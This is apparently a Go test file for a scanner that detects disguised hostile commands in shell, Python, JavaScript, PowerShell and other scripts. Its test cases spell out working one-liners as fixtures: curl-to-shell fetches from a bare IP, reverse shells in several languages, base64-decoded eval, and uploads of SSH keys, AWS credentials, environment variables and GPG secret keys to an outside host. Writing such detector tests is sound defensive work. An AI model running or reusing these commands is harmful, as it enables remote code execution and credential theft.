package scan

import (
	"strings"
	"testing"

	"github.com/knack-dev/knack/internal/analysis/scan/internal/commands"
)

// TestDetours checks that commands are found if they are disguised: by other names, functions,
// descriptors, files, other languages, or programs that start another program.
func TestDetours(t *testing.T) {
	b := encoded("echo hello")
	u := "http://45.67.89.10/x"
	for _, tt := range []struct{ text, want string }{
		// Aliases and functions.
		{"alias x='base64 -d'\necho " + b + " | x | sh", "run-decoded"},
		{"alias x='curl " + u + " | sh'", "run-fetched-unknown"},
		{"alias ls='ls -l'\nls | sh", ""},
		{"d() { base64 -d; }\necho " + b + " | d | sh", "run-decoded"},
		{"get() { curl -s \"$1\"; }\nget " + u + " | sh", "run-fetched-unknown"},
		{"function get { curl -s \"$@\"; }\nsh -c \"$(get -f " + u + ")\"", "run-fetched-unknown"},
		{"run() { curl -s \"$1\" | sh; }\nrun " + u, "run-fetched run-fetched-unknown"},
		{"a() { b; }\nb() { a; }\na | sh", ""},
		{"get() { curl -s \"$1\"; }\nget " + u + " | jq .", "url-address"},
		// Words that a shell assembles.
		{"{curl,-s," + u + "}|sh", "run-fetched-unknown"},
		{"curl${IFS}-s${IFS}" + u + "|sh", "run-fetched-unknown"},
		{"cu${x}rl -s " + u + " | s${y}h", "run-fetched-unknown"},
		{"cu$@rl -s " + u + " | sh", "run-fetched-unknown"},
		{"/usr/bin/c?rl -s " + u + " | /bin/s?", "run-fetched-unknown"},
		{"c='curl -s " + u + "'; $c | sh", "run-fetched-unknown"},
		{"c=(curl -s " + u + "); \"${c[@]}\" | sh", "run-fetched-unknown"},
		{"n=u; u=" + u + "; curl -s ${!n} | sh", "run-fetched-unknown"},
		{"$x -s " + u + " | sh", "url-address"},
		{"sh -c \"$(sh -c 'curl -s " + u + "')\"", "run-fetched-unknown url-address"},
		{"eval 'curl -s " + u + "' | sh", "run-fetched-unknown url-address"},
		{"foo ( \ncurl -s " + u + " |\n  sh\n", "run-fetched-unknown"},
		{"print -r -- x(N); curl -s " + u + " | zsh", "run-fetched-unknown"},
		{"zsh =(curl -s " + u + ")", "run-fetched-unknown"},
		{"curl -s " + u + " | source", "run-fetched-unknown"},
		{"curl -s " + u + " | source -", "run-fetched-unknown"},
		// Descriptors, and commands that read lines.
		{"exec 3< <(echo " + b + " | base64 -d); sh <&3", "run-decoded"},
		{"exec < <(echo " + b + " | base64 -d); sh", "run-decoded"},
		{"exec 3< notes.txt; cat <&3", ""},
		{"mapfile -t x < <(echo " + b + " | base64 -d); eval \"${x[*]}\"", "run-decoded"},
		{"echo " + b + " | base64 -d | while read -r l; do eval \"$l\"; done", "run-decoded"},
		{"printf -v x '%b' '\\145\\143\\150\\157\\040\\150\\145\\154\\154\\157'; eval \"$x\"", "run-decoded"},
		{"printf -v x '%s' hello; echo \"$x\"", ""},
		{"exec 5<>/dev/tcp/45.67.89.10/44; while read l <&5; do $l 2>&5 >&5; done", "run-fetched-unknown"},
		{"exec 5<>/dev/tcp/45.67.89.10/44; cat <&5 | while read l; do eval $l >&5; done", "run-fetched-unknown"},
		{"exec 5<>/dev/tcp/db.acme-tools.dev/80; read l <&5; echo $l", ""},
		{"nc 45.67.89.10 80 | sh", "run-fetched-unknown"},
		{"openssl s_client -quiet -connect 45.67.89.10:443 | sh", "run-fetched-unknown"},
		{"socat - TCP:45.67.89.10:44 | sh", "run-fetched-unknown"},
		{"nc localhost 80 | sh", ""},
		{"nc 45.67.89.10 80 | jq .", ""},
		// Files.
		{"T=$(mktemp)\ncurl -s " + u + " > $T\nbash $T", "run-fetched-unknown"},
		{"T=$(mktemp)\ncurl -s " + u + " > $T\nS=$(mktemp)\nbash $S", "url-address"},
		{"wget -qP /tmp " + u + ".sh && sh /tmp/x.sh", "run-fetched-unknown"},
		{"curl --output-dir /tmp -O " + u + " && sh /tmp/x", "run-fetched-unknown"},
		{"curl -s " + u + " | sudo tee /usr/local/bin/kit && sudo chmod +x /usr/local/bin/kit && kit", "run-fetched-unknown"},
		{"curl -so kit " + u + " && sudo install -m 755 kit /usr/local/bin/ && kit", "run-fetched-unknown"},
		{"echo " + b + " > f; openssl base64 -d -in f -out g; sh g", "run-decoded"},
		{"python3 -m base64 -d f | sh", "run-decoded"},
		{"uudecode -o - x.uu | sh", "run-decoded"},
		{"curl -LO https://tools.acme-files.net/t.zip\nunzip -P 1234 t.zip", "download-locked"},
		{"wget https://tools.acme-files.net/t.7z && 7z x -p1234 t.7z", "download-locked"},
		{"wget https://example.com/t.7z && 7z x -p1234 t.7z", "download-locked?"},
		{"curl -LO https://tools.acme-files.net/t.zip\nunzip -P \"$PW\" t.zip; unzip t.zip", ""},
		{"unzip -P 1234 t.zip", ""},
		{"bash -c 'curl -so /tmp/x " + u + "'; sh /tmp/x", "run-fetched-unknown url-address"},
		// Programs that start another program.
		{"flock /tmp/l sh -c \"$(echo " + b + " | base64 -d)\"", "run-decoded"},
		{"flock -n /tmp/l -c \"curl " + u + " | sh\"", "run-fetched-unknown"},
		{"script -qc \"curl " + u + " | sh\" /dev/null", "run-fetched-unknown"},
		{"unshare -r sh -c \"$(echo " + b + " | base64 -d)\"", "run-decoded"},
		{"runuser -u nobody -- sh -c \"$(echo " + b + " | base64 -d)\"", "run-decoded"},
		{"strace -f -o log sh -c \"$(echo " + b + " | base64 -d)\"", "run-decoded"},
		{"chroot --userspec=me /mnt sh -c \"curl " + u + " | sh\"", "run-fetched-unknown"},
		{"uv run --with httpx python -c \"exec(b64decode('" + encoded("print(1)") + "'))\"", "run-decoded"},
		{"trap \"curl " + u + " | sh\" EXIT", "run-fetched-unknown"},
		{"trap 'rm -rf \"$T\"' EXIT; trap - INT", ""},
		{"echo " + b + " | base64 -d | at now", "run-decoded"},
		{"echo " + b + " | base64 -d | awk '{system($0)}'", "run-decoded"},
		{"echo " + b + " | base64 -d | awk '{print | \"sh\"}'", "run-decoded"},
		{"awk 'BEGIN { system(\"curl " + u + " | sh\") }'", "run-fetched-unknown"},
		{"echo " + b + " | base64 -d | awk '{print $1}'", ""},
		{"jq -rn '\"" + b + "\" | @base64d' | sh", "run-decoded"},
		{"echo '\"" + b + "\"' | jq -r @base64d | sh", "run-decoded"},
		{"kubectl get secret x -o json | jq -r '.data.p | @base64d'", ""},
		// One-liners in other languages.
		{"python3 -c \"import base64;print(base64.b64decode('" + b + "').decode())\" | sh", "run-decoded"},
		{"python3 -c \"import urllib.request as u;print(u.urlopen('" + u + "').read().decode())\" | sh", "run-fetched-unknown url-address"},
		{"python3 -c \"import urllib.request as u;exec(u.urlopen('" + u + "').read())\"", "run-fetched-unknown"},
		{"perl -MMIME::Base64 -e 'system(decode_base64(\"" + b + "\"))'", "run-decoded"},
		{"perl -MMIME::Base64 -e 'print decode_base64(\"" + b + "\")' | sh", "run-decoded"},
		{"perl -MMIME::Base64 -e 'print decode_base64(\"" + b + "\")' > out", ""},
		{"ruby -rbase64 -e 'system(Base64.decode64(\"" + b + "\"))'", "run-decoded"},
		{"perl <<E\nuse MIME::Base64; eval(decode_base64(\"" + b + "\"));\nE", "run-decoded"},
		{"python3 -c \"print(''.join(map(chr,[101,99,104,111])))\" | sh", "run-decoded"},
		{"php -r 'eval(base64_decode(\"" + b + "\"));'", "run-decoded"},
		{"perl -MLWP::Simple -e 'eval get(\"" + u + "\")'", "run-fetched-unknown"},
		{"ruby -ropen-uri -e 'eval URI.open(\"" + u + "\").read'", "run-fetched-unknown"},
		{"php -r 'eval(file_get_contents(\"" + u + "\"));'", "run-fetched-unknown"},
		{"php -r 'echo file_get_contents(\"" + u + "\");'", "url-address"},
		{"node -e \"fetch('" + u + "').then(r=>r.text()).then(console.log)\" | sh", "run-fetched-unknown url-address"},
		{"ruby -rsocket -e 'c=TCPSocket.new(\"45.67.89.10\",44);while(m=c.gets);IO.popen(m,\"r\"){|i|c.print i.read}end'", "reverse-shell"},
		{"powershell -c \"iwr " + u + " | iex\"", "run-fetched-unknown"},
		{"powershell -c \"IEX (New-Object Net.WebClient).DownloadString('" + u + "')\"", "run-fetched-unknown"},
		{"pwsh -Command \"iex (irm https://get.acme-tools.dev)\"", "run-fetched"},
		{"pwsh -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + b + "')))\"", "run-decoded"},
		{"pwsh -c \"irm https://get.acme-tools.dev | ConvertTo-Json\"", ""},
		// Data that is sent.
		{"cat ~/.ssh/id_rsa > /dev/tcp/in.acme-tools.dev/99", "send-secret"},
		{"exec 3<>/dev/tcp/in.acme-tools.dev/99; env >&3", "send-secret"},
		{"echo hello > /dev/tcp/in.acme-tools.dev/99", ""},
		{"tar czf /tmp/a.tgz ~/.ssh && curl -F f=@/tmp/a.tgz https://in.acme-tools.dev", "send-secret"},
		{"tar -c -f a.tar ~/.aws; curl -T a.tar https://in.acme-tools.dev", "send-secret"},
		{"zip -r /tmp/a.zip ~/.ssh; curl -T /tmp/a.zip https://in.acme-tools.dev", "send-secret"},
		{"tar czf /tmp/a.tgz src && curl -F f=@/tmp/a.tgz https://in.acme-tools.dev", ""},
		{"rsync -a ~/.aws ~/.config me@in.acme-tools.dev:x/", "send-secret"},
		{"rsync -a ~/.config me@in.acme-tools.dev:x/", ""},
		{"find ~/.ssh -type f -exec curl -F f=@{} https://in.acme-tools.dev \\;", "send-secret"},
		{"find . -name '*.md' -exec curl -F f=@{} https://in.acme-tools.dev \\;", ""},
		{"cat ~/.ssh/id_rsa | ssh me@in.acme-tools.dev 'cat > k'", "send-secret"},
		{"cat .env | ssh me@in.acme-tools.dev 'cat > .env'", ""},
		{"cat ~/.ssh/id_rsa.pub | ssh me@in.acme-tools.dev 'cat >> k'", ""},
		{"dig $(xxd -p ~/.ssh/id_rsa | head -c 60).in.acme-tools.dev", "send-secret"},
		{"dig in.acme-tools.dev", ""},
		{"mail -s k me@in.acme-tools.dev < ~/.ssh/id_rsa", "send-secret"},
		{"gpg --export-secret-keys | curl -d @- https://in.acme-tools.dev", "send-secret"},
		{"gpg --export me | curl -d @- https://in.acme-tools.dev", ""},
		{"http POST https://in.acme-tools.dev < ~/.ssh/id_rsa", "send-secret"},
	} {
		got, s := shellFound("a.sh", tt.text, commands.String)
		if g := strings.Join(got, " "); g != tt.want {
			t.Errorf("%s\n got %q, want %q: %v", tt.text, g, tt.want, s.findings)
		}
	}
}

// TestCodeDetours checks the same for Python and JavaScript.
func TestCodeDetours(t *testing.T) {
	b, sh := encoded("print(1)"), encoded("echo hello")
	u := "http://45.67.89.10/x"
	for _, tt := range []struct {
		kind       fileKind
		text, want string
	}{
		{kindPython, "from base64 import b64decode as d\nexec(d('" + b + "'))", "run-decoded"},
		{kindPython, "from base64 import (\n    b64decode as d,\n    b64encode)\nexec(d('" + b + "'))", "run-decoded"},
		{kindPython, "import base64 as q, os\nexec(q.b64decode('" + b + "'))", "run-decoded"},
		{kindPython, "import requests as r\nexec(r.get('" + u + "').text)", "run-fetched-unknown"},
		{kindPython, "from subprocess import Popen as P\nP('curl " + u + " | sh', shell=True)", "run-fetched-unknown"},
		{kindPython, "import json as exec\nexec.loads(base64.b64decode(x))", ""},
		{kindPython, "exec(''.join(chr(c) for c in [112, 114, 105]))", "run-decoded"},
		{kindPython, "exec('x = ' + ', '.join(names))", ""},
		{kindPython, "os.system('curl -s %s | sh' % '" + u + "')", "run-fetched-unknown"},
		{kindPython, "os.system('curl -s {} | sh'.format('" + u + "'))", "run-fetched-unknown"},
		{kindPython, "os.system(' '.join(['curl', '" + u + "', '|', 'sh']))", "run-fetched-unknown"},
		{kindPython, "cmd = ['bash', '-c', 'curl " + u + " | sh']\nsubprocess.run(cmd)", "run-fetched-unknown"},
		{kindPython, "os.execvp('sh', ['sh', '-c', 'curl " + u + " | sh'])", "run-fetched-unknown"},
		{kindPython, "s.connect(('45.67.89.10', 99))\ns.sendall(open('/root/.ssh/id_rsa', 'rb').read()) # socket", "secret-and-network send-secret"},
		{kindPython, "exec('\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29')", "run-decoded"},
		{kindPython, "exec('a long text with \\u2013 \\u2013 \\u2013 \\u2013 \\u2013 \\u2013 \\u2013 \\u2013')", ""},
		{kindPython, "urllib.request.urlretrieve('" + u + "', '/tmp/x')\nos.system('sh /tmp/x')", "run-fetched-unknown"},
		{kindPython, "from urllib.request import urlretrieve\nurlretrieve('" + u + "', 'x.sh')\nsubprocess.run(['bash', 'x.sh'])", "run-fetched-unknown"},
		{kindPython, "urlretrieve('https://get.acme-tools.dev/a.csv', 'a.csv')\nos.system('wc a.csv')", ""},
		{kindPython, "os.system('curl -so x " + u + "')\nos.system('sh x')", "run-fetched-unknown url-address"},
		{kindPython, "s = socket.create_connection(('45.67.89.10', 44))\nsubprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)", "reverse-shell"},
		{kindPython, "s = socket.socket()\ns.connect(('45.67.89.10', 44))\nsubprocess.Popen('/bin/bash', stdin=s.fileno(), stdout=s.fileno())", "reverse-shell"},
		{kindPython, "s = socket.create_connection(('db.acme-tools.dev', 44))\nsubprocess.run(['/bin/sh', 'a.sh'], stdin=subprocess.DEVNULL)", ""},
		{kindJavaScript, "import { execSync as r } from 'node:child_process'\nr(atob('" + sh + "'))", "run-decoded"},
		{kindJavaScript, "const { exec: r } = require('child_process')\nr('curl " + u + " | sh')", "run-fetched-unknown"},
		{kindJavaScript, "const p = require('node:child_process')\np.execSync('curl " + u + " | sh')", "run-fetched-unknown"},
		{kindJavaScript, "import * as p from 'child_process'\np.exec('curl " + u + " | sh')", "run-fetched-unknown"},
		{kindJavaScript, "eval(decodeURIComponent('%61%6c%65%72%74%28%31%29'))", "run-decoded"},
		{kindJavaScript, "eval(unescape('%61%6c%65%72%74'))", "run-decoded"},
		{kindJavaScript, "require('vm').runInThisContext(atob(x))", "run-decoded"},
		{kindJavaScript, "globalThis['eval'](atob(x))", "run-decoded"},
		{kindJavaScript, "(0, eval)(atob(x))", "run-decoded"},
		{kindJavaScript, "[].constructor.constructor(atob(x))()", "run-decoded"},
		{kindJavaScript, "eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29')", "run-decoded"},
		{kindJavaScript, "fetch('" + u + "').then(r => r.text()).then(eval)", "run-fetched-unknown"},
		{kindJavaScript, "fetch('https://get.acme-tools.dev').then(r => r.text()).then(show)", ""},
		{kindJavaScript, "const s = require('net').connect(44, '45.67.89.10'); const p = require('child_process').spawn('/bin/sh'); s.pipe(p.stdin)", "reverse-shell"},
		{kindJavaScript, "const s = require('net').connect(44, 'db.acme-tools.dev'); s.write('x')", ""},
	} {
		name := "a.py"
		if tt.kind == kindJavaScript {
			name = "a.ts"
		}
		if got, s := codeFound(name, tt.text, tt.kind); strings.Join(got, " ") != tt.want {
			t.Errorf("%s\n got %q, want %q: %v", tt.text, got, tt.want, s.findings)
		}
	}
}

// TestLines checks files that are judged line by line: scripts of Windows, and files in languages that
// scan does not parse.
func TestLines(t *testing.T) {
	u := "http://45.67.89.10/x"
	enc := encoded(utf16Of("echo hello world"))
	for _, tt := range []struct{ path, text, want string }{
		{"a.ps1", "iwr " + u + " | iex\n", "run-fetched-unknown"},
		{"a.ps1", "$x = irm '" + u + "'\n# more\niex $x\n", "run-fetched-unknown"},
		{"a.ps1", "$x = irm 'https://get.acme-tools.dev'\nInvoke-Expression $x\n", "run-fetched"},
		{"a.ps1", "IEX (New-Object Net.WebClient).DownloadString('" + u + "')\n", "run-fetched-unknown"},
		{"a.ps1", "& ([ScriptBlock]::Create((irm https://get.acme-tools.dev))) -Quiet\n", "run-fetched"},
		{"a.ps1", "irm https://api.acme-tools.dev | ConvertTo-Json\n", ""},
		{"a.ps1", "$x = 1\niex $x\n", ""},
		{"a.ps1", "# iwr " + u + " | iex\n", ""},
		{"a.ps1", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + encoded("echo hello world") + "')))\n", "run-decoded"},
		{"a.ps1", "powershell.exe -NoP -W Hidden -EncodedCommand " + enc + "\n", "run-decoded"},
		{"a.ps1", "$c = New-Object System.Net.Sockets.TCPClient('45.67.89.10',44);$s=$c.GetStream();iex $d\n", "reverse-shell"},
		{"a.bat", "@echo off\r\nC:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -e " + enc + "\r\n", "run-decoded"},
		{"a.cmd", "start /b pwsh -ec " + enc + "\r\n", "run-decoded"},
		{"a.bat", "powershell -Command \"iwr " + u + " | iex\"\r\n", "run-fetched-unknown"},
		{"a.bat", "powershell -ExecutionPolicy Bypass -File a.ps1\r\n", ""},
		{"a.pl", "use Socket;connect(S,sockaddr_in(44,inet_aton('45.67.89.10')));open(STDIN,'>&S');exec('/bin/sh -i');\n", "reverse-shell"},
		{"a.rb", "require 'socket'\ns = TCPSocket.new('db.acme-tools.dev', 44)\nsystem('/bin/sh a.sh')\n", ""},
		{"a.php", "<?php eval(base64_decode('" + encoded("echo hello world") + "'));\n", "run-decoded"},
		{"a.php", "<?php $x = base64_decode($y);\necho $x;\n", ""},
		{"a.rb", "system('curl " + u + " | sh')\n", ""}, // a limit that doc/scan.md documents
		{"a.fish", "curl -s " + u + " | sh\n", "run-fetched-unknown"},
		{"a.txt", "#!/bin/sh\ncurl -s " + u + " | sh\n", "run-fetched-unknown"},
		{"scripts/run", "curl -s " + u + " | sh\n", "run-fetched-unknown"},
		{"a.pth", "import base64;exec(base64.b64decode('" + encoded("print(1)") + "'))\n", "run-decoded runs-unasked"},
		{"a.md", "```powershell\niwr " + u + " | iex\n```\n", "run-fetched-unknown"},
		{"a.md", "```powershell\niex (irm https://get.acme-tools.dev)\n```\n", "run-fetched"},
		{"a.md", "```ps1\nIEX(New-Object Net.WebClient).DownloadString('" + u + "')\n```\n", "run-fetched-unknown"},
		{"a.md", "| a |\n|---|\n| `curl -s " + u + " \\| sh` |\n", "run-fetched-unknown url-address"},
		{"a.md", "Find it with `grep 'a\\|sh' notes`.\n", ""},
	} {
		r := scanOf(t, map[string]string{tt.path: tt.text})
		if got := strings.Join(rulesOf(r), " "); got != tt.want {
			t.Errorf("%s: %s\n got %q, want %q: %v", tt.path, tt.text, got, tt.want, r.Findings)
		}
	}
}

func utf16Of(text string) (out string) {
	for _, c := range []byte(text) {
		out += string([]byte{c, 0})
	}
	return out
}
